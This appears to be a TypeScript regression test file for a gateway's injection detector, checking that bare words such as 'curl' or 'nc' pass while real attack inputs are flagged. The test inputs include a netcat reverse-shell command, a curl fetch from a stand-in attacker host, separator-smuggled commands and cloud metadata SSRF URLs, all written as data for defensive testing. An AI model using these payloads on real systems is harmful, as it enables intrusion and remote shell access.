/**
 * Regression tests for detector false positives that mattered at the gateway, where every
 * parameter of every request is inspected: bare words that are also command or host names.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectInjection } from '../../src/detect/injection/index.ts';

test('bare words that name commands are data: sort=id, state=NC, tags=python, client=curl', () => {
  for (const v of [
    'id',
    'ID',
    'nc',
    'NC',
    'python',
    'perl',
    'bash',
    'curl',
    'wget',
    'cmd',
    'sh',
    'powershell',
  ]) {
    assert.equal(detectInjection(v), null, v);
  }
});

test('the same commands with a shell argument, a separator, or as a bare probe are still detected', () => {
  for (const v of [
    'id -u',
    ';id',
    '| id',
    'curl http://evil.example/x.sh',
    'nc -e /bin/sh 10.0.0.1 4444',
    "python -c 'import os'",
    'whoami',
    'uname',
  ]) {
    assert.equal(detectInjection(v)?.kind, 'cmdi', v);
  }
});

test('a bare "metadata" is a word; in a URL it is the cloud metadata host', () => {
  assert.equal(detectInjection('metadata'), null);
  assert.equal(detectInjection('instance-data'), null);
  assert.equal(detectInjection('http://metadata/computeMetadata/v1/')?.kind, 'ssrf');
  assert.equal(detectInjection('http://metadata.google.internal/computeMetadata/v1/')?.kind, 'ssrf');
  assert.equal(detectInjection('localhost')?.kind, 'ssrf');
});

test('benign API values that look risky stay clean', () => {
  for (const v of [
    "O'Brien",
    'SELECT your plan',
    '1 OR 2 tickets',
    'Rock & Roll',
    'https://example.com/docs?page=2&sort=asc',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl',
    'if (a < b && c > d) { return x; }',
  ]) {
    assert.equal(detectInjection(v), null, v);
  }
});
